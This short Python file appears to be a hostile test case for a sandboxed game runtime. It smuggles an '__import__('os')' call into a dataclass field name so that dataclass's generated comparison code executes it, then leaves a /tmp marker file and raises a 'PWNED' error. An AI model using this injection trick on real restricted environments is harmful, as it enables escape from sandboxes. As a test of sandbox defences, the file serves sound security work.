# expect: error|refused — type('C', (), {'__annotations__': {'a,<code>,self.a': int}}) then dataclass(eq=True) runs <code>
"""Dataclass Injection (hostile): dataclass pastes field names into source it executes."""

def pwned(how):
    """Proof of a breach a test can see: printed, and in the error message."""
    print("PWNED", how)
    raise RuntimeError("PWNED: " + how)


def mark(osmod, how):
    """Given a real os module, also leave the marker file."""
    try:
        fd = osmod.open("/tmp/minigame-pwned-dataclass_field_name_injection", osmod.O_WRONLY | osmod.O_CREAT, 420)
        osmod.write(fd, how.encode())
        osmod.close(fd)
    finally:
        pwned(how)


import dataclasses

code = "self.hits.append(__import__('os'))"
C = type("C", (), {"a": 1, "hits": [], "__annotations__": {"a," + code + ",self.a": int}})
D = dataclasses.dataclass(eq=True, init=False, repr=False)(C)
D() == D()
if C.hits:
    mark(C.hits[0], "dataclass field name ran code with the real builtins")


def draw(screen):
    screen.fill((40, 0, 0))
